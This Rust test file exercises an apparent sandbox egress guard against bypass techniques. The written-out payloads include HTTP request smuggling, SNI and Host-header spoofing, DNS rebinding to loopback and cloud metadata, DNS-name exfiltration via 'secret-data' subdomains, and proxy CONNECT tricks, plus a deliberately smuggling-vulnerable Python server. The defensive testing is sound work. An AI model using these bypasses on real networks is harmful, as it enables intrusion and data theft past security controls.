//! Every known way around the rules, each successful on the build without its guard.

use super::refusals;
use super::world::World;
use crate::support::{Lab, Run, is_root, skip};

/// Runs `script` with `rules` on the build under test, and on the weakened one: the first must not see `prize`, the
/// second must.
#[track_caller]
fn stopped(rules: &[&str], near: bool, script: &str, prize: &str, guard: &str) -> Option<Run> {
    let lab = Lab::new();
    let world = World::new(&lab)?;
    let rules: Vec<_> = rules.iter().flat_map(|rule| ["--allow".to_owned(), (*rule).to_owned()]).collect();
    let near: Vec<_> =
        if near { vec!["--allow".to_owned(), format!("{}:8080,8443", world.address)] } else { Vec::new() };
    let script = script.replace("ADDRESS", &world.address.to_string());
    let run = world.bare(&lab).args(&rules).args(&near).sh(&script);
    assert!(!run.stderr.contains(prize), "it got through: {run:#?}");
    let weak = world.bare(&lab).args(&rules).args(&near).weakened(guard).sh(&script);
    assert!(weak.stderr.contains(prize), "the attack proves nothing: {weak:#?}");
    Some(run)
}

#[test]
fn tls_for_another_server_of_the_same_address_is_cut() {
    let script = "curl -sS --cacert ca.pem --connect-to b.test:8443:a.test:8443 https://b.test:8443/";
    let Some(run) = stopped(&["a.test:8443"], true, script, "served by b.test", "egress-sni") else { return };
    assert_eq!(refusals(&run, "a.test"), "the TLS server name is `b.test`, not `a.test`");
}

#[test]
fn tls_that_names_no_server_is_cut() {
    let script = "printf 'GET / HTTP/1.1\\r\\nHost: b.test:8443\\r\\nConnection: close\\r\\n\\r\\n' | \
                  openssl s_client -quiet -noservername -connect a.test:8443 2>/dev/null";
    let Some(run) = stopped(&["a.test:8443"], true, script, "served by b.test", "egress-sni") else { return };
    assert_eq!(refusals(&run, "a.test"), "the TLS client names no server, `a.test` is expected");
}

#[test]
fn a_request_for_another_host_is_answered_with_the_reason() {
    let script = "curl -sS -H 'Host: b.test:8080' http://a.test:8080/";
    let Some(run) = stopped(&["a.test:8080"], true, script, "served by b.test", "egress-host") else { return };
    assert!(run.stderr.contains("the request is for `b.test:8080`, the connection for `a.test:8080`"), "{run:#?}");
}

#[test]
fn a_second_request_for_another_host_is_seen_too() {
    let script = "printf 'GET /x HTTP/1.1\\r\\nHost: a.test:8080\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: b.test:8080\\r\\nConnection: close\\r\\n\\r\\n' \
                  | nc -q 2 -w 5 a.test 8080";
    let Some(run) = stopped(&["a.test:8080"], true, script, "served by b.test", "egress-host") else { return };
    assert!(run.stderr.contains("403 Forbidden"), "{run:#?}");
}

#[test]
fn a_request_that_hides_in_the_content_of_another_is_refused() {
    let script = "printf 'POST / HTTP/1.1\\r\\nHost: a.test:8080\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: b.test:8080\\r\\n\\r\\n' \
                  | nc -q 2 -w 5 a.test 8080";
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let run = world.task(&lab).sh(script);
    assert!(refusals(&run, "a.test").contains("Transfer-Encoding and Content-Length together"), "{run:#?}");
    assert!(!run.stderr.contains("served by"), "{run:#?}");
}

/// An HTTP/1.1 server that takes the coding for the content's length, as careless servers do.
const CARELESS: &str = r#"
import socketserver, sys
class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        while self.rfile.readline():
            headers = {}
            while (line := self.rfile.readline().strip()):
                name, _, value = line.decode().partition(':'); headers[name.lower()] = value.strip()
            if headers.get('transfer-encoding') == 'chunked':
                while (size := int(self.rfile.readline(), 16)): self.rfile.read(size + 2)
                self.rfile.readline()
            else: self.rfile.read(int(headers.get('content-length', 0)))
            body = b'served by ' + headers['host'].encode() + b'\n'
            self.wfile.write(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s' % (len(body), body)); self.wfile.flush()
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer((sys.argv[1], int(sys.argv[2])), Handler).serve_forever()
"#;

#[test]
fn a_hidden_request_reaches_a_careless_server_only_without_the_guard() {
    let lab = Lab::new();
    let Some(mut world) = World::new(&lab) else { return };
    let address = world.address.to_string();
    let server = lab.file("careless.py", CARELESS);
    world.also(std::process::Command::new("/usr/bin/python3").arg(server).args([&address, "8081"]), 8081);
    let hidden = "0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n"; // 37 bytes
    let script = format!(
        "printf 'POST / HTTP/1.1\\r\\nHost: a.test:8081\\r\\nContent-Length: 37\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{hidden}' | nc -q 2 -w 5 a.test 8081"
    );
    let near = format!("{address}:8081");
    let task = || world.bare(&lab).args(["--allow", "a.test:8081", "--allow", &near]);
    let run = task().sh(&script);
    assert!(!run.stderr.contains("served by"), "{run:#?}");
    assert!(refusals(&run, "a.test").contains("Transfer-Encoding and Content-Length together"), "{run:#?}");
    let weak = task().weakened("http-framing").sh(&script);
    assert!(weak.stderr.contains("served by b.test"), "the attack proves nothing: {weak:#?}");
}

#[test]
fn a_name_that_leads_to_loopback_is_not_followed() {
    let script = "curl -sS http://a.test:8080/";
    let Some(run) = stopped(&["a.test:8080"], false, script, "served by a.test", "egress-rebinding") else { return };
    assert!(refusals(&run, "a.test").contains(": loopback"), "{run:#?}");
}

#[test]
fn names_of_metadata_and_of_mapped_addresses_are_not_followed() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let rules = ["--allow", "metadata.test:8080", "--allow", "mapped.test:8080", "--allow", "closed.test:8080"];
    let run =
        world.bare(&lab).args(rules).sh("for n in metadata mapped closed; do curl -sS -m 5 http://$n.test:8080/; done");
    assert!(refusals(&run, "metadata.test").contains("link-local, with the metadata of clouds"), "{run:#?}");
    assert!(refusals(&run, "mapped.test").contains("::ffff:127.0.0.1: loopback"), "{run:#?}");
    assert!(refusals(&run, "closed.test").contains("documentation"), "{run:#?}");
}

#[test]
fn the_hosts_loopback_is_reached_by_a_rule_about_it_only() {
    let script = "curl -sS -m 5 http://ADDRESS:8080/; curl -sS -m 5 'http://[::ffff:ADDRESS]:8080/'";
    let Some(run) = stopped(&["a.test:8080"], false, script, "served by a.test", "egress-rules") else { return };
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    assert!(!run.receipt()["egress"]["rows"].as_array().unwrap().is_empty());
    world.task(&lab).sh(&format!("curl -sSf http://{}:8080/", world.address)).ended_as("succeeded", 0);
}

#[test]
fn addresses_without_a_rule_have_no_route_in_any_disguise() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let script = r#"import socket
for family, address in ((2, "1.1.1.1"), (2, "169.254.169.254"), (2, "10.0.0.1"), (10, "2606:4700::1111"), (10, "::ffff:1.1.1.1"), (10, "fd00:ec2::254")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            socket.socket(family, kind).connect((address, 443)); print("reached", address)
        except OSError as error:
            print(error.errno)
"#;
    lab.file("work/attack.py", script);
    let run = world.task(&lab).sh("python3 attack.py");
    assert_eq!(run.stderr, "101\n".repeat(12), "{run:#?}");
}

#[test]
fn a_wide_rule_does_not_open_the_hosts_loopback_by_number() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let task = || world.bare(&lab).args(["--allow", "64.0.0.0/2:8080"]);
    let script =
        format!("curl -sS -m 5 http://{0}:8080/ || curl -sS -m 5 -x 198.18.0.1:3128 http://{0}:8080/", world.address);
    let run = task().sh(&script);
    assert!(!run.stderr.contains("served by"), "{run:#?}");
    assert_eq!(refusals(&run, &world.address.to_string()), "loopback: `64.0.0.0/2:8080` also covers other addresses");
    let weak = task().weakened("egress-rebinding").sh(&script);
    assert!(weak.stderr.contains("served by"), "the attack proves nothing: {weak:#?}");
    let exact = format!("{}:8080", world.address);
    let opened = world.bare(&lab).args(["--allow", &exact]).sh(&script);
    assert!(opened.stderr.contains("served by"), "{opened:#?}");
}

#[test]
fn udp_to_an_allowed_host_is_refused_so_that_quic_falls_back() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let script = "import socket; s = socket.socket(2, socket.SOCK_DGRAM); s.settimeout(3); s.connect(('a.test', 8443)); s.send(b'x'); s.recv(1)";
    let run = world.task(&lab).sh(&format!("python3 -c \"{script}\""));
    assert!(run.stderr.contains("ConnectionRefusedError"), "{run:#?}");
}

#[test]
fn a_name_without_a_rule_never_leaves() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let script = "curl -sS -m 5 http://secret-data.b.test:8080/ || true; curl -sS -m 5 -x socks5h://198.18.0.1:1080 http://other-data.b.test:8080/";
    let run = world.task(&lab).sh(script);
    assert!(!world.asked().contains("-data.b.test"), "{}", world.asked());
    assert_eq!(refusals(&run, "secret-data.b.test"), "no rule names it");
    let weak = world.task(&lab).weakened("egress-names,egress-rules").sh(script);
    assert!(weak.stderr.contains("served by"), "{weak:#?}");
    assert!(world.asked().contains("secret-data.b.test"), "{}", world.asked());
}

#[test]
fn a_name_that_leads_to_a_denied_address_is_refused() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let denied = format!("{}:8080", world.address);
    let task = || world.task(&lab).args(["--deny", &denied]);
    let run = task().sh("curl -sS http://a.test:8080/");
    assert_eq!(refusals(&run, "a.test"), format!("`a.test` leads to {}, denied by `{denied}`", world.address));
    let weak = task().weakened("egress-rules").sh("curl -sS http://a.test:8080/");
    assert!(weak.stderr.contains("served by a.test"), "the attack proves nothing: {weak:#?}");
}

#[test]
fn names_below_a_star_carry_no_data() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let script = "for i in $(seq 150); do echo http://n$i.b.test:8080/; done | xargs -P 8 -n 10 curl -s -m 5 -o /dev/null; \
                  getent hosts $(head -c 60 /dev/zero | tr '\\0' a).$(head -c 60 /dev/zero | tr '\\0' b).b.test; true";
    let near = format!("{}:8080", world.address);
    let task = || world.bare(&lab).args(["--allow", "*.b.test:8080", "--allow", &near]);
    let run = task().sh(script);
    run.ended_as("succeeded", 0);
    let asked = || world.asked().lines().filter(|line| line.contains("query[A] n")).count();
    let before = asked();
    assert!((64..110).contains(&before), "{before} names were asked for");
    assert!(!world.asked().contains("aaaaaaaa"), "{}", world.asked());
    let long =
        "curl -s -m 5 http://$(head -c 60 /dev/zero | tr '\\0' a).$(head -c 60 /dev/zero | tr '\\0' b).b.test:8080/";
    let weak = task().weakened("egress-wild").sh(&format!("{script}; {long}"));
    assert_eq!(asked() - before, 150, "the attack proves nothing: {weak:#?}");
    assert!(world.asked().contains("aaaaaaaa"), "the attack proves nothing: {weak:#?}");
}

#[test]
fn connect_to_another_port_is_refused_with_the_reason() {
    let script = "curl -sS -x http://198.18.0.1:3128 -p http://a.test:8080/; curl -sS --proxy-header 'X: 1' -p -x http://198.18.0.1:3128 -w '%{http_connect}' http://a.test:8080/";
    let Some(run) = stopped(&["a.test:8443"], true, script, "served by a.test", "egress-rules") else { return };
    assert!(run.stderr.contains("403"), "{run:#?}");
    assert_eq!(refusals(&run, "a.test"), "`a.test:8443` does not allow port 8080");
}

#[test]
fn connections_to_one_name_below_a_star_are_not_limited() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let near = format!("{}:8080", world.address);
    let task = world.bare(&lab).args(["--allow", "*.b.test:8080", "--allow", &near]);
    let run = task.sh("for i in $(seq 100); do curl -sS -o /dev/null http://one.b.test:8080/ || exit 1; done");
    run.ended_as("succeeded", 0);
}

#[test]
fn a_client_that_only_begins_as_ssh_does_is_not_passed_on_at_ports_of_http() {
    let ask = |first: &str| {
        format!(
            "printf '{first}GET / HTTP/1.1\\r\\nHost: b.test:8080\\r\\nConnection: close\\r\\n\\r\\n' | nc -q 2 -w 5 a.test 8080"
        )
    };
    // nginx takes unknown methods.
    let one = "printf 'SSH-X / HTTP/1.1\\r\\nHost: b.test:8080\\r\\nConnection: close\\r\\n\\r\\n' | nc -q 2 -w 5 a.test 8080";
    let Some(run) = stopped(&["a.test:8080"], true, one, "served by b.test", "egress-ssh") else { return };
    assert_eq!(refusals(&run, "a.test"), "neither TLS, HTTP nor SSH at port 8080");
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let run = world.task(&lab).sh(&ask("SSH-2.0-x\\r\\n"));
    assert_eq!(refusals(&run, "a.test"), "the client begins as SSH does, and the server does not");
    assert!(!run.stderr.contains("served by") && !world.heard().contains("b.test"), "{run:#?}");
}

/// An SSH server for the first lines, which then echoes.
const SSH_SERVER: &str = r#"
import socketserver, sys
class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.sendall(b'SSH-2.0-test\r\n')
        while data := self.request.recv(4096): self.request.sendall(data)
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer((sys.argv[1], 443), Handler).serve_forever()
"#;

#[test]
fn ssh_passes_at_a_port_of_https() {
    if !is_root() {
        return skip("needs root to listen at port 443");
    }
    let lab = Lab::new();
    let Some(mut world) = World::new(&lab) else { return };
    let server = lab.file("ssh.py", SSH_SERVER);
    let mut command = std::process::Command::new("/usr/bin/python3");
    world.also(command.arg(server).arg(world.address.to_string()), 443);
    let near = format!("{}:443", world.address);
    let task = world.bare(&lab).args(["--allow", "a.test:443", "--allow", &near]);
    let run = task.sh("printf 'SSH-2.0-me\\r\\nkeys' | nc -q 1 -w 5 a.test 443");
    assert_eq!(run.stderr, "SSH-2.0-test\r\nSSH-2.0-me\r\nkeys", "{run:#?}");
}
